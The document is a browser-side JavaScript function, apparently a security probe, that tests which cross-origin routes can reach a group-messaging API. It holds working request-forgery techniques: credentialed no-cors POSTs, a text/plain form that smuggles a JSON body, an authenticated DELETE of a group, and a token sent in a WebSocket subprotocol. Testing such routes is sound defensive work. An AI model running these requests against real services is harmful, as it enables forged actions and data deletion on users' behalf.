async (api, token, group) => {
  const won = [];
  const path = `/v1/groups/${group}/messages`;
  const body = JSON.stringify({type: "text", content: {body: "from a page"}});
  const bearer = {"authorization": `Bearer ${token}`};
  const attempt = async (name, work) => {
    const late = new Promise((_, no) => setTimeout(() => no("late"), 3000));
    try { if (await Promise.race([work(), late])) won.push(name); } catch (_) {}
  };
  let tried = 0;
  for (const host of api) {
    for (const [kind, headers] of [["plain", {}], ["token", bearer]]) {
      for (const [method, target] of [["GET", "/v1/me"], ["GET", "/openapi.json"], ["POST", path], ["DELETE", `/v1/groups/${group}`]]) {
        tried++;
        await attempt(`${method} ${host}${target} ${kind}`, async () => {
          const answer = await fetch(host + target, {method, headers: {...headers, ...(method == "POST" ? {"content-type": "application/json"} : {})}, body: method == "POST" ? body : undefined});
          return answer.status < 400;
        });
      }
    }
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      tried++;
      await attempt(`no-cors ${host} ${type}`, async () => {
        const answer = await fetch(host + path, {method: "POST", mode: "no-cors", credentials: "include", headers: {"content-type": type}, body});
        return answer.type !== "opaque" && answer.status < 400;
      });
    }
    for (const protocols of [[], ["qpq.v1", `qpq.token.${token}`]]) {
      tried++;
      await attempt(`WebSocket ${host} ${protocols.length}`, () => new Promise((yes, no) => {
        const socket = new WebSocket(host.replace("http", "ws") + "/v1/events/ws", protocols);
        socket.onopen = () => yes(true);
        socket.onerror = () => no("closed");
      }));
    }
    tried++;
    await attempt(`EventSource ${host}`, () => new Promise((yes, no) => {
      const source = new EventSource(host + "/v1/events");
      source.onopen = () => yes(true);
      source.onerror = () => no("closed");
    }));
    tried++;
    await attempt(`script ${host}`, () => new Promise((yes, no) => {
      const script = document.createElement("script");
      script.src = host + "/docs/swagger-ui-bundle.js";
      script.onload = () => yes(true);
      script.onerror = () => no("refused");
      document.head.append(script);
    }));
    tried++;
    await attempt(`frame ${host}`, () => new Promise((yes, no) => {
      const frame = document.createElement("iframe");
      frame.src = host + "/docs/";
      frame.onload = () => { try { yes(frame.contentDocument !== null && frame.contentDocument.querySelector("#swagger-ui") !== null); } catch (e) { no(e); } };
      document.body.append(frame);
    }));
    tried++;
    await attempt(`form ${host}`, () => new Promise((yes) => {
      const form = document.createElement("form");
      form.method = "POST"; form.action = host + path; form.enctype = "text/plain"; form.target = "sink";
      const sink = document.createElement("iframe"); sink.name = "sink";
      const input = document.createElement("input"); input.name = body.slice(0, -1) + ',"x":"'; input.value = '"}';
      form.append(input); document.body.append(sink, form); form.submit();
      setTimeout(() => yes(false), 500);
    }));
  }
  return {tried, won};
};
